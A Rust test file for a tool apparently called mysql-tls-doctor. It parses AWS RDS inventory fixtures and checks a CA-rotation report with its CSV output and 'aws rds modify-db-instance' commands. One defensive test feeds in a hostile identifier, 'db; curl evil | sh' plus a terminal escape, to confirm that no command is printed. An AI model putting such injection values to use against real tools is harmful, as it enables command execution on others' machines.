//! The AWS inventory (JSON shaped exactly like the AWS CLI's documented output, hand-written
//! fixtures in tests/fixtures/inventory) read into typed resources, and the CA rotation report
//! from it: exact rows, exact commands, exact problems.

use mysql_tls_doctor::report::rotation::{CaState, ResourceKind, Restart};
use mysql_tls_doctor::rules::rotation::{self, Options};
use mysql_tls_doctor::source::inventory::{self, CaCertificate, DbInstance, HostPort, Problem};

const NOW: &str = "2026-12-03T00:00:00Z";

fn fixture(name: &str) -> String {
    let path = format!("{}/tests/fixtures/inventory/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn all() -> String {
    [
        "describe-db-instances.json",
        "describe-db-clusters.json",
        "describe-db-proxies.json",
        "describe-certificates.json",
        "describe-db-engine-versions.json",
    ]
    .iter()
    .map(|f| fixture(f))
    .collect::<Vec<_>>()
    .join("\n")
}

fn now() -> i64 {
    mysql_tls_doctor::time_fmt::parse(NOW).expect("a date")
}

#[test]
fn reads_describe_db_instances_field_for_field() {
    let inv = inventory::parse(&fixture("describe-db-instances.json"));
    assert_eq!(inv.problems, vec![]);
    assert_eq!(inv.instances.len(), 5);
    assert_eq!(
        inv.instances[0],
        DbInstance {
            id: "legacy-mysql".into(),
            engine: "mysql".into(),
            engine_version: "5.7.44".into(),
            status: Some("available".into()),
            endpoint: Some(HostPort {
                address: "legacy-mysql.c9akciq32.us-east-1.rds.amazonaws.com".into(),
                port: 3306
            }),
            ca_id: Some("rds-ca-2019".into()),
            server_cert_valid_till: mysql_tls_doctor::time_fmt::parse("2024-08-22T17:08:50Z").ok(),
            cluster_id: None,
        }
    );
    assert_eq!(inv.instances[4].endpoint, None, "an instance still being created has no endpoint");
    assert_eq!(inv.instances[3].cluster_id.as_deref(), Some("maz-cluster"));
}

#[test]
fn reads_clusters_proxies_certificates_and_engine_versions() {
    let inv = inventory::parse(&all());
    assert_eq!(inv.problems, vec![]);
    let clusters: Vec<(&str, bool, Option<&str>)> =
        inv.clusters.iter().map(|c| (c.id.as_str(), c.multi_az_db_cluster, c.ca_id.as_deref())).collect();
    assert_eq!(clusters, [("aurora-main", false, None), ("maz-cluster", true, Some("rds-ca-2019"))]);
    assert_eq!(
        inv.clusters[0].reader_endpoint,
        Some(HostPort { address: "aurora-main.cluster-ro-c9akciq32.us-east-1.rds.amazonaws.com".into(), port: 3306 })
    );
    assert_eq!(
        (inv.proxies[0].name.as_str(), inv.proxies[0].require_tls, inv.proxies[0].endpoint.as_ref().map(|e| e.port)),
        ("orders-proxy", Some(true), Some(3306))
    );
    assert_eq!(inv.default_for_new.as_deref(), Some("rds-ca-rsa2048-g1"));
    let t = |s: &str| mysql_tls_doctor::time_fmt::parse(s).ok();
    assert_eq!(
        inv.certificates[2],
        CaCertificate {
            id: "rds-ca-soon".into(),
            valid_from: t("2016-01-01"),
            valid_till: t("2027-03-13"),
            customer_override: true,
            customer_override_valid_till: t("2027-03-13"),
        }
    );
    let versions: Vec<(&str, &str, Option<bool>)> = inv
        .engine_versions
        .iter()
        .map(|v| (v.engine.as_str(), v.version.as_str(), v.rotation_without_restart))
        .collect();
    assert_eq!(
        versions,
        [
            ("mysql", "5.7.44", Some(false)),
            ("mysql", "8.0.36", Some(true)),
            ("aurora-mysql", "8.0.mysql_aurora.3.05.2", Some(true))
        ]
    );
    assert_eq!(
        inv.endpoints(),
        [
            "legacy-mysql.c9akciq32.us-east-1.rds.amazonaws.com:3306",
            "orders-prod.c9akciq32.eu-west-1.rds.amazonaws.com:3306",
            "aurora-main-writer.c9akciq32.us-east-1.rds.amazonaws.com:3306",
            "maz-cluster-instance-1.c9akciq32.us-east-1.rds.amazonaws.com:3306",
            "aurora-main.cluster-c9akciq32.us-east-1.rds.amazonaws.com:3306",
            "aurora-main.cluster-ro-c9akciq32.us-east-1.rds.amazonaws.com:3306",
            "maz-cluster.cluster-c9akciq32.us-east-1.rds.amazonaws.com:3306",
            "maz-cluster.cluster-ro-c9akciq32.us-east-1.rds.amazonaws.com:3306",
            "orders-proxy.proxy-c9akciq32.us-east-1.rds.amazonaws.com:3306",
        ]
    );
}

#[test]
fn the_rotation_report_names_each_resource_its_state_and_command() {
    let inv = inventory::parse(&all());
    let report = rotation::report(&inv, &[], &Options::new(now()));
    type Row<'a> = (ResourceKind, &'a str, CaState, Option<&'a str>, Option<i64>, Restart);
    let rows: Vec<Row> = report
        .rows
        .iter()
        .map(|r| (r.kind, r.id.as_str(), r.state, r.ca_valid_till.as_deref(), r.ca_days_left, r.restart))
        .collect();
    use CaState::*;
    use ResourceKind::*;
    assert_eq!(
        rows,
        [
            (Instance, "aurora-main-writer", Expired, Some("2024-08-22"), Some(-833), Restart::NotNeeded),
            (Instance, "legacy-mysql", Expired, Some("2024-08-22"), Some(-833), Restart::Needed),
            // A Multi-AZ DB cluster: one row (its instance "maz-cluster-instance-1" has none of its own).
            (Cluster, "maz-cluster", Expired, Some("2024-08-22"), Some(-833), Restart::NotNeeded),
            (Instance, "reporting", ExpiresSoon, Some("2027-03-13"), Some(100), Restart::Unknown),
            (Instance, "orders-prod", Ok, Some("2061-05-25"), Some(12592), Restart::NotNeeded),
            (Proxy, "orders-proxy", NotApplicable, None, None, Restart::NoChange),
        ]
    );
    let commands: Vec<&str> = report.rows.iter().filter_map(|r| r.command.as_deref()).collect();
    assert_eq!(
        commands,
        [
            "aws rds modify-db-instance --db-instance-identifier aurora-main-writer --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately --region us-east-1",
            "aws rds modify-db-instance --db-instance-identifier legacy-mysql --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately --region us-east-1",
            "aws rds modify-db-cluster --db-cluster-identifier maz-cluster --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately --region us-east-1",
            "aws rds modify-db-instance --db-instance-identifier reporting --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately",
        ]
    );
    assert_eq!(
        report.rows[1].why,
        "rds-ca-2019 ended on 2024-08-22: clients that verify the server cannot connect; the change restarts the database"
    );
    assert_eq!(
        report.rows[3].why,
        "rds-ca-soon ends on 2027-03-13, within 180 days; whether the change restarts it: `aws rds \
         describe-db-engine-versions` (SupportsCertificateRotationWithoutRestart)"
    );
    assert_eq!(report.exit_code(), 1);
    // A shorter horizon: "reporting" (100 days left) is no longer "soon".
    let report = rotation::report(&inv, &[], &Options { horizon_days: 90, ..Options::new(now()) });
    assert_eq!(
        report.rows.iter().find(|r| r.id == "reporting").map(|r| (r.state, r.command.is_some())),
        Some((Ok, false))
    );
}

#[test]
fn without_describe_certificates_the_bundle_gives_each_regions_root() {
    let inv = inventory::parse(&fixture("describe-db-instances.json"));
    let bundle = rotation::ca_ends_from_bundle(mysql_tls_doctor::source::builtin::RDS_GLOBAL_PEM, "rds-global-2024-06");
    let report = rotation::report(&inv, &bundle, &Options::new(now()));
    let of =
        |id: &str| report.rows.iter().find(|r| r.id == id).map(|r| (r.ca_valid_till.clone(), r.state)).expect("row");
    // eu-west-1's own RSA2048 G1 root, and the global 2019 root.
    assert_eq!(of("orders-prod"), (Some("2061-05-20".into()), CaState::Ok));
    assert_eq!(of("legacy-mysql"), (Some("2024-08-22".into()), CaState::Expired));
    // Nobody knows "rds-ca-soon" without describe-certificates.
    assert_eq!(of("reporting"), (None, CaState::Unknown));
    assert_eq!(
        report.rows.iter().find(|r| r.id == "reporting").map(|r| r.why.as_str()),
        Some("no end date known for rds-ca-soon: paste `aws rds describe-certificates`; whether the change restarts it: `aws rds describe-db-engine-versions` (SupportsCertificateRotationWithoutRestart)")
    );
}

#[test]
fn reports_broken_and_foreign_documents_where_they_are() {
    let p = |text: &str| inventory::parse(text).problems;
    assert_eq!(
        p("{\"DBInstances\": []}\n{\"Reservations\": []}"),
        vec![Problem {
            document: 2,
            line: 2,
            column: 1,
            message: "none of DBInstances, DBClusters, DBProxies, Certificates, DBEngineVersions: not the output of \
                      `aws rds describe-db-instances` (-clusters, -proxies, -certificates, -engine-versions)"
                .into()
        }]
    );
    assert_eq!(
        p("{\"DBInstances\": [\n  {\"Endpoint\": {\"Port\": \"x\"}}]}"),
        vec![Problem {
            document: 1,
            line: 2,
            column: 27,
            message: "not the JSON of an `aws rds describe-…` command: invalid type: string \"x\", expected i64 at line 2 column 27".into()
        }]
    );
    assert_eq!(p(""), vec![Problem { document: 0, line: 0, column: 0, message: "the input holds no JSON".into() }]);
    let bad_date = inventory::parse(r#"{"Certificates": [{"CertificateIdentifier": "c", "ValidTill": "soon"}]}"#);
    assert_eq!(
        bad_date.problems.iter().map(|p| p.message.as_str()).collect::<Vec<_>>(),
        ["Certificates[].ValidTill: 'soon' is not a date: use RFC 3339 like 2024-08-23T00:00:00Z, or 2024-08-23"]
    );
}

#[test]
fn hostile_identifiers_get_no_command_and_print_inert() {
    let text = r#"{"DBInstances": [{"DBInstanceIdentifier": "db; curl evil | sh\u001b[2J", "Engine": "mysql",
        "EngineVersion": "8.0.36", "CACertificateIdentifier": "rds-ca-2019"}]}"#;
    let report = rotation::report(&inventory::parse(text), &[], &Options::new(now()));
    assert_eq!(report.rows[0].command, None);
    assert_eq!(
        report.rows[0].why,
        "rds-ca-2019 ended on 2024-08-22: clients that verify the server cannot connect; its identifier is not an RDS identifier, so no command is printed"
    );
    assert!(!report.to_text().contains('\u{1b}'), "terminal escapes are made visible");
    assert!(report.to_text().contains("db; curl evil | sh\\u{1b}[2J"));
}

/// `fleet --at NOW --csv` with `extra` flags over these fixture files; it must exit 1 (a CA is
/// due). Its CSV.
fn fleet_csv(extra: &[&str], files: &[&str]) -> String {
    let dir = format!("{}/tests/fixtures/inventory", env!("CARGO_MANIFEST_DIR"));
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_mysql-tls-doctor"))
        .args(["fleet", "--at", NOW, "--csv"])
        .args(extra)
        .args(files.iter().flat_map(|f| ["--inventory".to_owned(), format!("{dir}/{f}")]))
        .output()
        .expect("run the CLI");
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).expect("utf-8")
}

#[test]
fn the_cli_prints_the_report_and_exits_1_when_a_ca_is_due() {
    let csv = fleet_csv(
        &[],
        &[
            "describe-db-instances.json",
            "describe-db-clusters.json",
            "describe-db-proxies.json",
            "describe-certificates.json",
        ],
    );
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines.len(), 7);
    assert_eq!(lines[0], "kind,id,engine,engine_version,endpoint,region,ca_id,ca_valid_till,ca_days_left,server_cert_valid_till,state,rotation,command,why");
    assert_eq!(
        lines[2],
        "instance,legacy-mysql,mysql,5.7.44,legacy-mysql.c9akciq32.us-east-1.rds.amazonaws.com:3306,us-east-1,rds-ca-2019,2024-08-22,-833,2024-08-22,expired,unknown,aws rds modify-db-instance --db-instance-identifier legacy-mysql --ca-certificate-identifier rds-ca-rsa2048-g1 --apply-immediately --region us-east-1,rds-ca-2019 ended on 2024-08-22: clients that verify the server cannot connect; whether the change restarts it: `aws rds describe-db-engine-versions` (SupportsCertificateRotationWithoutRestart)"
    );
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_mysql-tls-doctor"))
        .args(["fleet", "--inventory", "-"])
        .stdin(std::process::Stdio::null())
        .output()
        .expect("run the CLI");
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(
        String::from_utf8_lossy(&out.stderr),
        "mysql-tls-doctor: the inventory holds no instances, clusters, proxies or certificates: the input holds no JSON\n"
    );
}

#[test]
fn warn_days_sets_the_inventorys_horizon() {
    let run = |days: &str| {
        let csv = fleet_csv(&["--warn-days", days], &["describe-db-instances.json", "describe-certificates.json"]);
        // (id, state, whether a command is printed) of the instance 100 days from its CA's end.
        csv.lines()
            .filter_map(|l| {
                let cols: Vec<&str> = l.split(',').collect();
                (cols.get(1) == Some(&"reporting")).then(|| (cols[10].to_owned(), !cols[12].is_empty()))
            })
            .collect::<Vec<_>>()
    };
    assert_eq!(run("101"), [("expires-soon".to_owned(), true)]);
    assert_eq!(run("100"), [("ok".to_owned(), false)]);
}
